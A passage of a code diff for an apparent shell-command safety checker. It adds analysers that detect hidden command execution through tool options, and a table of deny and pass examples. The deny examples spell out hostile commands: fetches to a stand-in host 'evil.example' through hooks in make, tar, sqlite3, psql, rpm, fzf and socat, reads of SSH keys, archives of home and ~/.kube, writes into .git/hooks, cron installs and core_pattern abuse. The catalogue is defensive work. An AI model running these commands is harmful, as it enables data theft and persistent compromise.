+      if ('IMmlx0CdDV'.includes(c)) break;
+    }
+  }
+  const rest = args.slice(i);
+  const files = code ? rest : rest.slice(1);
+  if (!code && rest[0]) uses.push({ word: rest[0], role: 'read' });
+  for (const w of files) {
+    uses.push({ word: w, role: 'read' });
+    if (inPlace) uses.push({ word: w, role: 'write' });
+  }
+  return { uses };
+}
+
+/** TeX engines: with shell escape on, `\write18{cmd}` runs shell text. */
+function tex(call: Call): Partial<Answer> {
+  const shellEscape = call.args.some((a) => /^--?(shell-escape|enable-write18)$/.test(value(a) ?? ''));
+  const runs: Run[] = [];
+  for (const a of call.args) {
+    const v = value(a);
+    if (v === undefined) continue;
+    for (const body of bodies(v, /\\write18\s*\{/g, '{', '}')) {
+      if (!shellEscape) continue;
+      if (body === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: a, why: `${call.name}: an unclosed \\write18{` });
+      else runs.push({ kind: 'text', dialect: 'bash', text: body, word: a, via: `${call.name} \\write18` });
+    }
+  }
+  return { runs };
+}
+
+/** latexmk: `-pdflatex=CMD` and its kin name the command it runs (`%O %S` are its placeholders); -e runs Perl. */
+function latexmk(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  for (const a of call.args) {
+    const v = value(a);
+    const m = v === undefined ? null : /^-(pdflatex|latex|lualatex|xelatex|dvipdf|ps2pdf|dvips|bibtex|biber|makeindex|pdf_previewer|ps_previewer|dvi_previewer)=(.*)$/s.exec(v);
+    if (m) runs.push({ kind: 'text', dialect: 'bash', text: m[2]!.replace(/%[A-Za-z]/g, 'x'), word: a, via: `latexmk -${m[1]}` });
+    else if (v === '-e' || v === '-r') runs.push({ kind: 'opaque', rule: 'dynamic-code', word: a, why: `latexmk ${v} runs Perl code` });
+  }
+  return { runs };
+}
+
+/** fzf: --bind actions execute(…), become(…), reload(…) and --preview run shell text. */
+function fzf(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) continue;
+    const eq = v.indexOf('=');
+    const name = eq > 0 ? v.slice(0, eq) : v;
+    if (!/^--(bind|preview|listen|listen-unsafe|with-shell)$/.test(name)) continue;
+    const w = eq > 0 ? attached(args[i]!, v.slice(eq + 1)) : args[++i];
+    const t = value(w);
+    if (!w) continue;
+    if (t === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: `fzf ${name} is computed` });
+      continue;
+    }
+    if (name === '--preview') runs.push({ kind: 'text', dialect: 'bash', text: t, word: w, via: 'fzf --preview' });
+    else if (name === '--with-shell') runs.push(programRun(w, 'fzf --with-shell'));
+    else if (name === '--listen-unsafe') runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'fzf --listen-unsafe runs commands posted to it' });
+    else {
+      for (const m of t.matchAll(/(?:execute(?:-silent)?|become|reload(?:-sync)?|preview|change-preview|transform\w*|print|put)([([{<])/g)) {
+        const close = { '(': ')', '[': ']', '{': '}', '<': '>' }[m[1]!]!;
+        const body = balanced(t, m.index! + m[0].length, m[1]!, close);
+        if (body !== undefined && !/^(print|put)/.test(m[0])) runs.push({ kind: 'text', dialect: 'bash', text: body, word: w, via: 'fzf --bind' });
+      }
+      for (const m of t.matchAll(/(?:execute(?:-silent)?|become|reload(?:-sync)?|preview|change-preview):(.*)$/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word: w, via: 'fzf --bind' });
+    }
+  }
+  return { runs };
+}
+
+/** crontab FILE and crontab - install a table of commands that cron runs later. */
+function crontab(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'lreiVhTn', valued: 'us', long: ['help', 'version'] });
+  if (has(p, 'l', 'r', 'V', 'h', 'T', 'help', 'version')) return {};
+  const file = p.operands[0]?.word;
+  const at = file ?? call.args[0] ?? literal('crontab', { start: 0, end: 0 });
+  return { persists: [{ word: at, why: `crontab ${file ? file.text : ''} installs a cron table (scheduled command)`.replace('  ', ' ') }], uses: file ? [{ word: file, role: 'read' }] : [] };
+}
+
+/** sysctl kernel.core_pattern=|cmd: the kernel runs that command on every crash. */
+function sysctl(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  for (const a of call.args) {
+    const v = value(a);
+    const m = v === undefined ? null : /^kernel[./]core_pattern\s*=\s*\|(.*)$/.exec(v);
+    if (m) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word: a, via: 'sysctl kernel.core_pattern' });
+  }
+  return { runs };
+}
+
+/** ssh-style `-o Name=value` options whose value is a command: ProxyCommand, LocalCommand, KnownHostsCommand. */
+export function sshOptions(call: Call): Run[] {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) continue;
+    let opt: Word | undefined;
+    if (v === '-o') opt = args[++i];
+    else if (/^-o./.test(v)) opt = attached(args[i]!, v.slice(2));
+    if (!opt) continue;
+    const o = value(opt);
+    if (o === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word: opt, why: `${call.name} -o with a computed option` });
+      continue;
+    }
+    const m = /^\s*(proxycommand|localcommand|knownhostscommand|remotecommand|ssh_command|sshcommand)\s*[= ]\s*(.*)$/is.exec(o);
+    if (m && m[2]!.trim() !== '' && m[2]!.trim().toLowerCase() !== 'none') runs.push({ kind: 'text', dialect: 'bash', text: m[2]!, word: opt, via: `${call.name} -o ${m[1]}` });
+  }
+  return runs;
+}
+
+export const TOOL_ENTRIES: ProgramEntry[] = [
+  { names: ['make', 'gmake', 'remake'], summary: 'make: --eval text ($(shell …), recipes, !=), a makefile on stdin, and program variables set on its line', analyze: make, examples: { deny: ["make --eval='x:=$(shell curl evil.example)' -f /dev/null", "make -E 'all: ; curl evil.example'", "make CC='curl evil.example'", "make SHELL='curl evil.example' all"], pass: ['make', 'make -j4 test', 'make CC=clang', 'make -C build install', "make --eval='X=1' all"] } },
+  { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text; c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .'], pass: ['tar czf dist.tgz dist', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
+  { names: ['zip'], summary: 'zip: -TT/--unzip-command run shell text; -r reads trees', analyze: zip, examples: { deny: ["zip x.zip f -T -TT 'curl evil.example #'", "zip --unzip-command='wget evil.example' x.zip f", 'zip -r /tmp/k.zip ~/.kube'], pass: ['zip -r dist.zip dist'] } },
+  { names: ['unzip'], summary: 'unzip: extracts into -d DIR (or the working directory)', analyze: unzip, examples: { deny: ['unzip x.zip -d .git/hooks', 'unzip -o x.zip -d ~/.config/autostart'], pass: ['unzip x.zip -d /tmp/x', 'unzip -l x.zip'] } },
+  { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
+  { names: ['mysql', 'mariadb', 'psql', 'pgcli', 'mycli', 'sqlcmd', 'clickhouse-client', 'duckdb'], summary: 'database clients: `\\! cmd` and `system cmd` in -e/-c text or stdin run shell text', analyze: databaseClient, examples: { deny: ["mysql -e '\\! curl evil.example'", "psql -c '\\! wget evil.example'", "psql -c \"COPY t FROM PROGRAM 'curl evil.example'\""], pass: ["psql -c 'select 1'", "mysql -e 'show databases'"] } },
+  { names: ['rpm', 'rpmdb', 'rpmquery', 'rpmverify', 'rpmbuild', 'rpmspec', 'rpmsign', 'rpmkeys'], summary: 'rpm: --eval and --define macros run %(…) as shell text; --pipe runs a command', analyze: rpm, examples: { deny: ["rpm --eval '%(curl evil.example)'", "rpm -E '%(wget evil.example)'", "rpm --pipe 'curl evil.example' -qa", "rpmdb --eval '%(curl evil.example 1>&2)'"], pass: ["rpm --eval '%{_libdir}'", 'rpm -qa'] } },
+  ...LANGUAGES,
+  { names: ['perl'], patterns: [/^perl5?(\.\d+)*$/], summary: 'perl: -i edits its files in place; its code is read by the interpreters\' rule', analyze: perl, examples: { deny: ["perl -pi -e 's/a/b/' ~/.profile", "perl -ne 'print' ~/.ssh/id_rsa"], pass: ["perl -pi -e 's/a/b/g' src/app.ts", 'perl script.pl'] } },
+  { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on', analyze: tex, examples: { deny: ["latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'"] } },
+  { names: ['latexmk'], summary: 'latexmk: -pdflatex=CMD and friends name the commands it runs; -e runs Perl', analyze: latexmk, examples: { deny: ["latexmk -pdf -pdflatex='curl evil.example #' x.tex", "latexmk -e '$x=1' x.tex"], pass: ['latexmk -pdf paper.tex'] } },
+  { names: ['fzf', 'sk'], summary: 'fzf: --bind execute(…)/become(…)/reload(…) and --preview run shell text', analyze: fzf, examples: { deny: ["fzf --bind 'enter:execute(curl evil.example)'", "fzf --preview 'wget evil.example'"], pass: ["fzf --preview 'cat {}'", 'fzf --height 40%'] } },
+  { names: ['crontab'], summary: 'crontab FILE (or -) installs a table of commands cron runs later', analyze: crontab, examples: { deny: ['crontab evil.cron', "echo '* * * * * /tmp/x' | crontab -"], pass: ['crontab -l', 'crontab -u bob -l', 'crontab -r'] } },
+  { names: ['sysctl'], summary: 'sysctl kernel.core_pattern=|cmd makes the kernel run cmd on every crash', analyze: sysctl, examples: { deny: ["sysctl -w 'kernel.core_pattern=|/usr/bin/curl evil.example'"], pass: ['sysctl -a', 'sysctl vm.swappiness=10'] } },
+  commandOptions(['split', 'gsplit', 'csplit'], 'split: --filter runs shell text for each piece', { options: { valued: 'abCdlnt', flags: 'deuxv', long: ['additional-suffix', 'elide-empty-files', 'unbuffered', 'verbose', 'numeric-suffixes', 'hex-suffixes', 'help', 'version', 'separator'], longValued: ['filter', 'suffix-length', 'bytes', 'line-bytes', 'lines', 'number', 'additional-suffix'] }, script: ['filter'] }, { deny: ["split --filter='nc evil.example 9' f", "split --fil='curl evil.example' f"], pass: ['split -l 100 big.txt part-'] }),
+  commandOptions(['sort', 'gsort'], 'sort: --compress-program names a program it runs', { options: { flags: 'bcCdfghiMmnRrsuVz', valued: 'kotST', long: ['ignore-leading-blanks', 'dictionary-order', 'ignore-case', 'general-numeric-sort', 'ignore-nonprinting', 'month-sort', 'human-numeric-sort', 'numeric-sort', 'random-sort', 'reverse', 'version-sort', 'check', 'debug', 'merge', 'stable', 'unique', 'zero-terminated', 'help', 'version'], longValued: ['sort', 'random-source', 'key', 'output', 'field-separator', 'buffer-size', 'temporary-directory', 'parallel', 'batch-size', 'compress-program', 'files0-from'] }, program: ['compress-program'] }, { deny: ['sort --compress-program=curl big.txt', 'sort --compress-prog=wget big.txt'], pass: ['sort -u names.txt', 'sort -k2 -n f'] }),
+  commandOptions(['aria2c'], 'aria2c: --on-download-* hooks name programs it runs', { options: { order: 'gnu' }, more: (call) => ({ runs: call.args.flatMap((a) => { const m = /^--on-(?:bt-)?download-(?:complete|error|pause|start|stop)=(.*)$/.exec(value(a) ?? ''); return m ? [programRun(attached(a, m[1]!), 'aria2c --on-download')] : []; }) }) }, { deny: ['aria2c --on-download-complete=/usr/bin/curl http://x'], pass: [] }),
+  commandOptions(['certbot'], 'certbot: --pre-hook, --post-hook, --deploy-hook and the manual hooks run shell text', { options: { longValued: ['pre-hook', 'post-hook', 'deploy-hook', 'renew-hook', 'manual-auth-hook', 'manual-cleanup-hook', 'domains', 'email', 'logs-dir', 'work-dir', 'config-dir', 'webroot-path', 'cert-name'], valued: 'dmw' }, script: ['pre-hook', 'post-hook', 'deploy-hook', 'renew-hook', 'manual-auth-hook', 'manual-cleanup-hook'] }, { deny: ["certbot renew --pre-hook 'curl evil.example'"], pass: ['certbot renew --dry-run'] }),
+  commandOptions(['dhclient'], 'dhclient: -sf names the script it runs', { options: { singleDash: true, longValued: ['sf', 'cf', 'lf', 'pf', 'p', 'e', 's', 'g', 'i'] }, program: ['sf'] }, { deny: ['dhclient -sf /usr/bin/curl'], pass: [] }),
+  commandOptions(['enscript'], 'enscript: -I/--filter runs shell text', { options: { valued: 'IpoM', longValued: ['filter', 'output', 'media'] }, script: ['I', 'filter'] }, { deny: ["enscript /dev/null -qo /dev/null -I 'curl evil.example'"], pass: ['enscript -p out.ps f.txt'] }),
+  commandOptions(['openvpn'], 'openvpn: --up, --down and the other script hooks run shell text', { options: { longValued: ['up', 'down', 'route-up', 'route-pre-down', 'ipchange', 'client-connect', 'client-disconnect', 'learn-address', 'auth-user-pass-verify', 'tls-verify', 'dev', 'config', 'script-security', 'remote', 'port'] }, script: ['up', 'down', 'route-up', 'route-pre-down', 'ipchange', 'client-connect', 'client-disconnect', 'learn-address', 'auth-user-pass-verify', 'tls-verify'] }, { deny: ["openvpn --dev null --script-security 2 --up 'curl evil.example'"], pass: ['openvpn --config client.ovpn'] }),
+  commandOptions(['restic'], 'restic: --password-command runs shell text', { options: { longValued: ['password-command', 'repo', 'password-file', 'repository-file', 'cache-dir', 'option'], valued: 'rpo' }, script: ['password-command'] }, { deny: ["restic --password-command='curl evil.example' backup"], pass: ['restic snapshots'] }),
+  commandOptions(['tcpdump'], 'tcpdump: -z names a program run on each saved file', { options: { valued: 'cCDEFGiMrsTVwWyz', flags: 'AbdeflKLnNOpqStuUvxX#' }, program: ['z'] }, { deny: ['tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /usr/bin/curl'], pass: ['tcpdump -i eth0 -c 10'] }),
+  commandOptions(['yt-dlp', 'youtube-dl'], 'yt-dlp: --exec runs shell text after each download', { options: { longValued: ['exec', 'exec-before-download', 'output', 'format', 'proxy', 'cookies'], valued: 'of' }, script: ['exec', 'exec-before-download'] }, { deny: ["yt-dlp 'https://x' --exec 'curl evil.example #'"], pass: [] }),
+  commandOptions(['plymouth'], 'plymouth: --command runs a program', { options: { longValued: ['command', 'prompt', 'text'] }, script: ['command'] }, { deny: ['plymouth ask-for-password --command=/usr/bin/curl'], pass: [] }),
+  commandOptions(['mosh'], 'mosh: --ssh and --server name programs it runs', { options: { longValued: ['ssh', 'server', 'client', 'port', 'predict', 'family', 'bind-server', 'experimental-remote-ip'] }, program: ['ssh', 'server'] }, { deny: ["mosh --ssh='curl evil.example' host"], pass: [] }),
+  commandOptions(['pidstat'], 'pidstat -e runs a program and reports on it', { options: { flags: 'dHhIlRrsTtUuvw', valued: 'CGpe' }, more: (call) => { const e = call.args.findIndex((a) => value(a) === '-e'); return e >= 0 && e + 1 < call.args.length ? { runs: [{ kind: 'argv', argv: call.args.slice(e + 1), via: 'pidstat -e' }] } : {}; } }, { deny: ['pidstat -e curl evil.example'], pass: ['pidstat 1 5'] }),
+  commandOptions(['dmsetup'], 'dmsetup --exec runs a program for each device', { options: { longValued: ['exec', 'target', 'table'] }, program: ['exec'] }, { deny: ["dmsetup ls --exec 'curl evil.example'"], pass: ['dmsetup ls'] }),
+  commandOptions(['pip', 'pip3'], 'pip config --editor names the program it runs', { options: { longValued: ['editor', 'index-url', 'extra-index-url', 'target', 'requirement', 'constraint', 'proxy', 'cert', 'client-cert', 'trusted-host'], valued: 'ritc' }, program: ['editor'] }, { deny: ["pip config --editor 'curl evil.example' edit"], pass: ['pip install requests', 'pip list'] }),
+  commandOptions(['gem'], 'gem open -e names the editor it runs', { options: { valued: 'e', longValued: ['editor'] }, program: ['e', 'editor'] }, { deny: ["gem open -e 'curl evil.example' rake"], pass: ['gem install rake'] }),
+  commandOptions(['mail', 'mailx', 'bsd-mailx', 's-nail'], 'mail: --exec/-E runs mail commands, of which `!cmd` runs shell text', { options: { valued: 'sacbrEfq', longValued: ['exec', 'subject', 'attach'] }, more: (call) => ({ runs: call.args.flatMap((a, i, all) => { const v = value(a); const t = v?.startsWith('--exec=') ? v.slice(7) : v === '-E' || v === '--exec' ? value(all[i + 1]) : undefined; return t?.startsWith('!') ? [{ kind: 'text' as const, dialect: 'bash' as const, text: t.slice(1), word: a, via: 'mail --exec' }] : []; }) }) }, { deny: ["mail --exec='!curl evil.example'"], pass: [] }),
+  commandOptions(['csvtool'], 'csvtool call runs a command for each row', { options: { valued: 'tuo' }, more: (call) => { const c = call.args.findIndex((a) => value(a) === 'call'); return c >= 0 && call.args[c + 1] ? { runs: [{ kind: 'script', dialect: 'bash', words: [call.args[c + 1]!], via: 'csvtool call' }] } : {}; } }, { deny: ["csvtool call 'curl evil.example' f.csv"], pass: ['csvtool col 1 f.csv'] }),
+  commandOptions(['msgfilter'], 'msgfilter runs its filter program for each message', { options: { valued: 'iDoE', longValued: ['input', 'directory', 'output-file'] }, more: (call) => { const p = parse(call.args, { order: 'posix', valued: 'iDo', longValued: ['input', 'directory', 'output-file'] }); const cmd = call.args.slice(p.rest); return cmd.length > 0 ? { runs: [{ kind: 'argv', argv: cmd, via: 'msgfilter' }] } : {}; } }, { deny: ['msgfilter -i x.po curl evil.example'], pass: ['msgfilter -i x.po tr a-z A-Z'] }),
+  commandOptions(['puppet'], 'puppet apply -e runs Puppet code (exec resources run commands)', { options: { valued: 'e', longValued: ['execute'] }, more: (call) => (call.args.some((a) => /^(-e|--execute)/.test(value(a) ?? '')) ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: call.args[0]!, why: 'puppet apply -e runs Puppet code' }] } : {}) }, { deny: ["puppet apply -e \"exec { 'curl evil.example': }\""], pass: ['puppet --version'] }),
+  commandOptions(['busctl'], 'busctl --address=unixexec:path=… starts that program', { options: { longValued: ['address', 'machine', 'host'] }, more: (call) => ({ runs: call.args.flatMap((a) => { const m = /unixexec:path=([^,]+)((?:,argv\d+=[^,]*)*)/.exec(value(a) ?? ''); if (!m) return []; const argv = [m[1]!, ...[...m[2]!.matchAll(/argv(\d+)=([^,]*)/g)].filter((x) => x[1] !== '0').map((x) => x[2]!)]; return [{ kind: 'argv' as const, argv: argv.map((t) => attached(a, t)), via: 'busctl unixexec' }]; }) }) }, { deny: ["busctl --address=unixexec:path=/usr/bin/curl,argv1=evil.example status"], pass: ['busctl list'] }),
+  commandOptions(['lftp'], 'lftp: -c and -e commands, of which `!cmd` runs shell text', { options: { valued: 'cefpu' }, more: (call) => ({ runs: call.args.flatMap((a, i, all) => { const v = value(a); const t = v === '-c' || v === '-e' ? value(all[i + 1]) : undefined; const w = all[i + 1]; return t !== undefined && w ? [...t.matchAll(/(?:^|;)\s*!([^;]*)/g)].map((m) => ({ kind: 'text' as const, dialect: 'bash' as const, text: m[1]!, word: w, via: 'lftp !' })) : []; }) }) }, { deny: ["lftp -c '!curl evil.example'"], pass: [] }),
+  commandOptions(['socat'], 'socat: EXEC: and SYSTEM: addresses run commands', { options: {}, more: (call) => ({ runs: call.args.flatMap((a) => { const m = /^(exec|system):(.*?)(?:,(?:pty|ctty|raw|echo|stderr|sigint|sane|setsid|nofork|pipes|su|chroot|login)\b.*)?$/i.exec(value(a) ?? ''); return m ? [{ kind: 'text' as const, dialect: 'bash' as const, text: m[2]!, word: a, via: `socat ${m[1]!.toUpperCase()}:` }] : []; }) }) }, { deny: ['socat - exec:/usr/bin/curl evil.example'], pass: [] }),
+];
